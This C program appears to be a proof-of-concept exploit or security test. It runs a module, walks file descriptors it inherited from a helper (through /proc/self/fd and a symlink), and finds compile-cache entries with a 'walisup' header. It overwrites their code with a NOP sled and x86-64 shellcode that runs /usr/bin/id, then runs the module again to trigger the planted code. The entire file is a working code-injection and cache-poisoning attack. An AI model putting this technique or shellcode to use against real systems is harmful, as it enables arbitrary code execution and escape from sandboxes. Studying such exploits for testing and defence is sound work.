// Executes a module, looks for its compiled code in every descriptor of its helper and
// in every directory that one of these is, writes machine code there that executes
// /usr/bin/id, and executes the module again.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int found;

static void run(const char *module) {
	pid_t child = fork();
	if (!child) {
		execl(module, module, (char *)0);
		perror(module);
		_exit(1);
	}
	int status;
	waitpid(child, &status, 0);
	if (status) printf("%s ended with %#x\n", module, status);
}

// poison writes over the code in an entry of a compile cache.
static void poison(const char *path) {
	int fd = open(path, O_RDWR);
	if (fd < 0) return;
	unsigned char head[48];
	if (pread(fd, head, sizeof head, 0) != sizeof head || memcmp(head, "walisup", 7)) {
		close(fd);
		return;
	}
	uint64_t end = sizeof head, size;
	for (int i = 0; i < 6; i++) {
		uint32_t part;
		memcpy(&part, head + 12 + 4 * i, sizeof part);
		end += part;
	}
	memcpy(&size, head + 40, sizeof size);
	static const unsigned char call[] = {
		0x48, 0x31, 0xd2, 0x52, 0x48, 0x8d, 0x3d, 0x10, 0, 0, 0, 0x57, // xor rdx,rdx; push rdx; lea rdi,path; push rdi
		0x48, 0x89, 0xe6, 0xb8, 59, 0, 0, 0, 0x0f, 0x05, 0x0f, 0x0b,   // mov rsi,rsp; mov eax,59; syscall; ud2
		0, 0, 0, '/', 'u', 's', 'r', '/', 'b', 'i', 'n', '/', 'i', 'd', 0,
	};
	unsigned char *code = malloc(size);
	memset(code, 0x90, size);
	memcpy(code + size - sizeof call, call, sizeof call);
	if (pwrite(fd, code, size, (end + 4095) & ~4095ull) > 0) {
		printf("wrote code to %s\n", path);
		found++;
	}
	free(code);
	close(fd);
}

int main(int argc, char **argv) {
	setvbuf(stdout, 0, _IONBF, 0);
	int home = open(".", O_RDONLY | O_DIRECTORY);
	run(argv[1]);
	for (int fd = 3; fd < 1100; fd++) {
		if (fd == home) continue;
		char path[64];
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		poison(path);
		// By a link, too, which does not tell where it leads.
		if (symlink(path, "lead")) continue;
		poison("lead");
		struct dirent *e;
		DIR *d = chdir("lead") ? 0 : opendir(".");
		while (d && (e = readdir(d))) poison(e->d_name);
		if (d) closedir(d);
		fchdir(home);
		unlink("lead");
	}
	if (!found) puts("found nothing to write to");
	run(argv[1]);
	return 0;
}
